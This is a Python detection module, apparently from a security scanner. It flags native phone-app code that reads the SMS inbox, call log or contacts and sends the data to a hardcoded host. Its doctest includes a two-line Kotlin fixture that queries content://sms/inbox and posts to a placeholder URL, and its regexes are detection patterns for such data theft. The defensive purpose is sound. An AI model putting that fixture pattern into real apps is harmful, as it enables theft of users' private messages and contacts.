"""A phone app's native code that reads the user's messages, call log or contacts and
sends them to a host it names.

The family: an "OTP autofill", "backup" or "caller ID" helper in Kotlin, Java, Swift or
Objective-C queries the SMS inbox (``content://sms``), the call log or the address book,
and writes what it read to an address written in the file (``URL("https://…")``, an
OkHttp or Retrofit request, ``URLSession``). Languages without a flow analyser are read
whole: the store and the written host in the same file make the finding; either alone
is an ordinary app (a contact picker, a call to the app's API).

>>> kt = '''val c = resolver.query(Uri.parse("content://sms/inbox"), null, null, null, null)
... URL("https://sync.invalid/in").openConnection().getOutputStream().write(body)'''
>>> [f.rule_id for f in native_personal_data_findings("Sms.kt", kt)]
['mobile.personal-data-to-network']
>>> native_personal_data_findings("Pick.kt", "query(ContactsContract.Contacts.CONTENT_URI)")
[]
"""

from __future__ import annotations

import re

from .destinations import is_local
from .findings import ThreatFinding, finding_at

RULE_ID = "mobile.personal-data-to-network"
_NATIVE_APP_CODE = (".kt", ".java", ".swift", ".m", ".mm")
_PRIVATE_STORE = re.compile(
    r"content://(?:sms|mms|call_log|contacts|com\.android\.contacts)\b|\bTelephony\.Sms\b"
    r"|\bSmsMessage\.createFromPdu\b|\bgetMessagesFromIntent\b|\bCallLog\.Calls\b"
    r"|\bContactsContract\b|\bCNContactStore\b|\bABAddressBook\w*"
)
"""The phone's messages, call log or address book, read through the platform's APIs."""
_SENT_TO_HOST = re.compile(
    r"(?:\bURL|\.url|\bbaseUrl|\bURLRequest|\bURL\(string:|\bHttpPost|\bpost|\bRequest\.Builder\(\)\.url)"
    r"\s*\(\s*(?:string:\s*)?[\"']((?:https?|wss?)://[\w.-]+)"
)
"""A request to an address written in the code."""


def native_personal_data_findings(path: str, text: str) -> list[ThreatFinding]:
    """One finding at the first read of a private store, when the file also sends to a
    written host that is not this machine."""
    if not path.lower().endswith(_NATIVE_APP_CODE):
        return []
    store = _PRIVATE_STORE.search(text)
    if not store:
        return []
    hosts = [m.group(1).split("://", 1)[1] for m in _SENT_TO_HOST.finditer(text)]
    if all(is_local(host) for host in hosts):
        return []
    return [
        finding_at(
            path,
            text,
            store.start(),
            "8.2",
            "high",
            "personal data theft: app code reads the phone's messages, call log or contacts "
            "and sends to a host written in the code",
            RULE_ID,
        )
    ]
